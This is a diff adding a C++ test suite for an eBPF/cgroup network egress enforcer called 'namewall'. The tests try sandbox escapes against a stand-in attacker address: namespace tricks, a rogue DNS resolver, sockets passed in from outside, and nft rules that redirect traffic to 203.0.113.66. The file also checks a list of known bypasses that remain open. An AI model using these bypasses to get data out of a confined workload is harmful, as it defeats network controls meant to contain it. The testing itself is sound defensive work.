@@ -1,0 +1,279 @@
+// Every known way around: closed, or open and listed in docs/ways_around.md. A sniffer at the far end of the wire, in
+// another network namespace, is the judge.
+#include <fcntl.h>
+#include <linux/bpf.h>
+#include <net/if.h>
+#include <netinet/in.h>
+#include <sched.h>
+#include <sys/ioctl.h>
+#include <sys/wait.h>
+
+#include <fstream>
+#include <set>
+#include <thread>
+
+#include "tests/kernel/escape_actions.h"
+#include "tests/kernel/support/sniffer.h"
+#include "tests/kernel/support/workload_test.h"
+
+namespace namewall::kernel_tests {
+namespace {
+
+using testing::IsEmpty;
+
+class Escapes : public WorkloadTest {
+ protected:
+  void SetUp() override {
+    WorkloadTest::SetUp();
+    if (HasFatalFailure()) return;
+    auto policy = make_policy({"example.com", "*://192.0.2.1:443", "*://[2001:db8::1]:443", "icmp://192.0.2.1"});
+    policy.loopback = Loopback::kOwn;
+    arm(policy);
+  }
+
+  // True when something went out that must not: to the evil address, or with the secret in it.
+  bool leaked() {
+    bool leak = false;
+    for (const auto& packet : sniffer_.take()) {
+      const auto to = destination_of(packet);
+      leak |= to == ip(kEvil4) || to == ip(kEvil6) || contains_text(packet, kSecret);
+    }
+    return leak;
+  }
+  bool leaks(const std::function<void()>& act) {
+    sniffer_.take();
+    in_cgroup(cgroup_, act);
+    return leaked();
+  }
+  void expect(const std::vector<EscapeAction>& actions) {
+    for (const auto& action : actions) {
+      EXPECT_EQ(leaks(action.act), action.leaks) << action.id << (action.leaks ? " is listed as open" : " got out");
+    }
+  }
+
+  Sniffer sniffer_{network_};
+};
+
+TEST_F(Escapes, SnifferSeesWhatIsAllowedAndWhatComesFromOutside) {
+  EXPECT_TRUE(leaks([] {
+    enter_outer_cgroup();
+    udp_send_to(ip(kEvil4), 443);
+  })) << "else every test here passes for nothing";
+  EXPECT_EQ(tcp_inside(ip(kAllowed4)), 0);
+  EXPECT_EQ(tcp_inside(ip(kAllowed6)), 0);
+  EXPECT_EQ(in_cgroup(cgroup_, [] { return udp_connect_and_send(ip(kAllowed6), 443); }), 0);
+  EXPECT_EQ(in_cgroup(cgroup_, [] { return look_up(far_resolver(), "example.com", 16); }).send_error, 0);
+}
+
+TEST_F(Escapes, SocketCallsReachNothingForbidden) { expect(socket_escapes()); }
+TEST_F(Escapes, HeadersAndRawPacketsReachNothingForbiddenButWhatIsListed) { expect(packet_escapes()); }
+TEST_F(Escapes, QuestionsCarryNoOtherName) { expect(question_escapes()); }
+
+// Without a program the same actions do leak: the table above tests the programs, not the kernel's own refusals. Those
+// that the kernel refuses by itself on some hosts are left out.
+TEST_F(Escapes, MostActionsWouldLeakWithoutThePrograms) {
+  ASSERT_TRUE(enforcer_->disarm(cgroup_.fd(), workload_));
+  std::size_t actions = 0, leaking = 0;
+  for (const auto& table : {socket_escapes(), packet_escapes(), question_escapes()}) {
+    for (const auto& action : table) ++actions, leaking += leaks(action.act);
+  }
+  EXPECT_GE(leaking * 10, actions * 7) << leaking << " of " << actions;
+}
+
+TEST_F(Escapes, SocketKeepsItsCgroupWhenItsProcessLeaves) {
+  EXPECT_FALSE(leaks([] {
+    const auto client = make_socket(AF_INET, SOCK_DGRAM);
+    enter_outer_cgroup();
+    const SocketAddress to(ip(kEvil4), 443);
+    sendto(client.get(), "x", 1, 0, to.get(), to.length);
+    connect(client.get(), to.get(), to.length);
+    send(client.get(), "x", 1, 0);
+  }));
+}
+
+TEST_F(Escapes, NewNetworkNamespaceIsHeldToo) {
+  const int error = in_cgroup(cgroup_, [] {
+    if (unshare(CLONE_NEWUSER | CLONE_NEWNET) != 0) return -1;
+    return tcp_connect(ip(kEvil4), 443);
+  });
+  EXPECT_EQ(error, ECONNREFUSED) << "the programs belong to the cgroup, not to the namespace";
+}
+
+// ---- the workload teaches itself through a network namespace of its own ----
+
+void write_text(const char* path, const std::string& text) {
+  std::ofstream file(path);
+  file << text;
+}
+
+// In a fresh user and network namespace: a server of the workload's own, and a translation that makes it answer for the
+// trusted resolver. Returns what came of asking it for an allowed name.
+LookupOutcome ask_own_resolver_in_own_netns(bool with_user_namespace) {
+  LookupOutcome outcome;
+  const auto uid = geteuid(), gid = getegid();
+  if (unshare(CLONE_NEWNET | (with_user_namespace ? CLONE_NEWUSER : 0)) != 0) {
+    outcome.send_error = -1;
+    return outcome;
+  }
+  if (with_user_namespace) {
+    write_text("/proc/self/setgroups", "deny");
+    write_text("/proc/self/uid_map", "0 " + std::to_string(uid) + " 1");
+    write_text("/proc/self/gid_map", "0 " + std::to_string(gid) + " 1");
+  }
+  const auto control = make_socket(AF_INET, SOCK_DGRAM);
+  ifreq loopback{};
+  std::strcpy(loopback.ifr_name, "lo");
+  loopback.ifr_flags = IFF_UP | IFF_RUNNING;
+  ioctl(control.get(), SIOCSIFFLAGS, &loopback);
+  const std::string rules =
+      "add table ip nwharness; add chain ip nwharness out { type nat hook output priority -100; }; "
+      "add rule ip nwharness out ip daddr 127.0.0.53 udp dport 53 dnat to 127.0.0.1:5300";
+  run_command({"nft", rules});
+  const auto server = make_socket(AF_INET, SOCK_DGRAM);
+  const SocketAddress at(ip("127.0.0.1"), 5300);
+  if (bind(server.get(), at.get(), at.length) != 0) {
+    outcome.send_error = -2;
+    return outcome;
+  }
+  std::thread serving([&server] {
+    SocketAddress peer;
+    peer.length = sizeof(peer.storage);
+    Bytes question(512);
+    const timeval soon{0, 300'000};
+    setsockopt(server.get(), SOL_SOCKET, SO_RCVTIMEO, &soon, sizeof(soon));
+    const ssize_t n = recvfrom(server.get(), question.data(), question.size(), 0, peer.get(), &peer.length);
+    if (n <= 0) return;
+    question.resize(static_cast<std::size_t>(n));
+    const auto answer = make_answer(question, {{"example.com", 600, "", ip(kEvil4)}});
+    sendto(server.get(), answer.data(), answer.size(), 0, peer.get(), peer.length);
+  });
+  outcome = look_up(resolver(), "example.com", 1, milliseconds(400));
+  serving.join();
+  return outcome;
+}
+
+TEST_F(Escapes, OwnNetworkNamespaceCannotPlayTheTrustedResolver) {
+  for (const bool with_user_namespace : {true, false}) {
+    const auto outcome = in_cgroup(cgroup_, [&] { return ask_own_resolver_in_own_netns(with_user_namespace); });
+    ASSERT_GE(outcome.send_error, 0) << "the attack itself did not run";
+    EXPECT_FALSE(outcome.delivered());
+    EXPECT_THAT(granted_addresses(), IsEmpty());
+    EXPECT_EQ(tcp_inside(ip(kEvil4)), ECONNREFUSED);
+  }
+  EXPECT_GE(count_of(NW_REASON_UNTRUSTED_NETNS), 2u);
+}
+
+TEST_F(Escapes, OwnNetworkNamespaceWouldTeachIfItWereTrusted) {
+  // The same attack without the programs' check of the namespace: proof that the attack works at all.
+  ASSERT_TRUE(enforcer_->disarm(cgroup_.fd(), workload_));
+  const auto outcome = in_cgroup(cgroup_, [] { return ask_own_resolver_in_own_netns(true); });
+  EXPECT_TRUE(outcome.delivered());
+}
+
+// ---- what stays open: listed, with the reason ----
+
+std::set<std::string> listed_ways() {
+  std::ifstream table(std::string(NAMEWALL_SOURCE_DIR) + "/docs/ways_around.md");
+  std::set<std::string> ids;
+  for (std::string line; std::getline(table, line);) {
+    if (line.rfind("| `", 0) == 0) ids.insert(line.substr(3, line.find('`', 3) - 3));
+  }
+  return ids;
+}
+
+// Sends a socket over a unix socket pair.
+void pass_socket(int channel, int socket) {
+  char byte = 's';
+  iovec part{&byte, 1};
+  alignas(cmsghdr) char control[CMSG_SPACE(sizeof(int))] = {};
+  msghdr message{};
+  message.msg_iov = &part;
+  message.msg_iovlen = 1;
+  message.msg_control = control;
+  message.msg_controllen = sizeof(control);
+  cmsghdr* header = CMSG_FIRSTHDR(&message);
+  header->cmsg_level = SOL_SOCKET;
+  header->cmsg_type = SCM_RIGHTS;
+  header->cmsg_len = CMSG_LEN(sizeof(int));
+  std::memcpy(CMSG_DATA(header), &socket, sizeof(socket));
+  sendmsg(channel, &message, 0);
+}
+
+OwnedFd receive_socket(int channel) {
+  char byte;
+  iovec part{&byte, 1};
+  alignas(cmsghdr) char control[CMSG_SPACE(sizeof(int))] = {};
+  msghdr message{};
+  message.msg_iov = &part;
+  message.msg_iovlen = 1;
+  message.msg_control = control;
+  message.msg_controllen = sizeof(control);
+  int socket = -1;
+  if (recvmsg(channel, &message, 0) == 1 && CMSG_FIRSTHDR(&message) != nullptr) {
+    std::memcpy(&socket, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof(socket));
+  }
+  return OwnedFd(socket);
+}
+
+TEST_F(Escapes, ListOfWhatStaysOpenIsTheTruth) {
+  std::set<std::string> open;
+  for (const auto& table : {socket_escapes(), packet_escapes(), question_escapes()}) {
+    for (const auto& action : table) {
+      if (action.leaks) open.insert(action.id);
+    }
+  }
+  // A socket made outside and passed in.
+  int channel[2];
+  ASSERT_EQ(socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, channel), 0);
+  {
+    const auto outside = make_socket(AF_INET, SOCK_DGRAM);
+    const SocketAddress to(ip(kEvil4), 443);
+    connect(outside.get(), to.get(), to.length);
+    pass_socket(channel[0], outside.get());
+  }
+  if (leaks([&] { send(receive_socket(channel[1]).get(), "x", 1, 0); })) open.insert("passed-connected-socket");
+  {
+    const auto outside = make_socket(AF_INET, SOCK_DGRAM);
+    pass_socket(channel[0], outside.get());
+  }
+  if (leaks([&] {
+        const SocketAddress to(ip(kEvil4), 443);
+        sendto(receive_socket(channel[1]).get(), "x", 1, 0, to.get(), to.length);
+      })) {
+    open.insert("passed-unconnected-socket");
+  }
+  close(channel[0]), close(channel[1]);
+  // A process that leaves the cgroup and makes a new socket.
+  if (leaks([] { enter_outer_cgroup() ? (void)udp_send_to(ip(kEvil4), 443) : (void)0; })) open.insert("left-cgroup");
+  // Group membership reports: the kernel sends them without a socket.
+  sniffer_.take();
+  in_cgroup(cgroup_, [] {
+    const auto client = make_socket(AF_INET, SOCK_DGRAM);
+    ip_mreqn group{};
+    std::memcpy(&group.imr_multiaddr, ip("239.7.7.7").v4_bytes().data(), 4);
+    group.imr_ifindex = static_cast<int>(if_nametoindex(kNearDevice));
+    setsockopt(client.get(), IPPROTO_IP, IP_ADD_MEMBERSHIP, &group, sizeof(group));
+    std::this_thread::sleep_for(milliseconds(20));
+  });
+  for (const auto& packet : sniffer_.take()) {
+    if (packet.size() > 9 && packet[0] >> 4 == 4 && packet[9] == IPPROTO_IGMP) open.insert("group-membership");
+  }
+  // CAP_NET_ADMIN in the workload's own network namespace: translation after the connect hook.
+  if (leaks([] {
+        run_command({"nft", "add table ip nwharness; add chain ip nwharness out { type nat hook output priority -100; }; "
+                            "add rule ip nwharness out ip daddr 192.0.2.1 udp dport 443 dnat to 203.0.113.66:443"});
+        udp_send_to(ip(kAllowed4), 443);
+        run_command({"nft", "delete table ip nwharness"});
+      })) {
+    open.insert("net-admin-translation");
+  }
+  // Families that are not IP have no hooks.
+  auto listed = listed_ways();
+  const auto has_vsock = [] { return make_socket(40 /* AF_VSOCK */, SOCK_STREAM).get() >= 0; };
+  if (!has_vsock()) listed.erase("vsock");  // this kernel has no such sockets
+  else if (in_cgroup(cgroup_, has_vsock)) open.insert("vsock");
+  EXPECT_EQ(open, listed);
+}
+
+}  // namespace
+}  // namespace namewall::kernel_tests
